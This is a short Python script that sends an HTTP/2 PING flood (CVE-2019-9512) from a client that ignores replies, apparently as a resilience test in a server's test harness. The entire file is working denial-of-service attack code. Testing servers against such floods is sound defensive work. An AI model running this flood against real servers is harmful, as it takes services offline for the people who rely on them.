#!/usr/bin/python3
"""PING flood (CVE-2019-9512), and the same from a client that does not read the answers."""
from attacker import Peer, flood, h2, main

MARK = ("http2.ping_strikes",)
ENDED = True
PINGS = h2.frame(h2.PING, 0, 0, b"12345678") * 1000


def attack(run):
    peer = Peer(run, deaf=True, receive_buffer=4096)
    while peer.send(PINGS, 1000) and run.left() > 0:
        pass
    peer.wait(1)
    peer.close()
    flood(run, PINGS, 1000)


if __name__ == "__main__":
    main(attack)
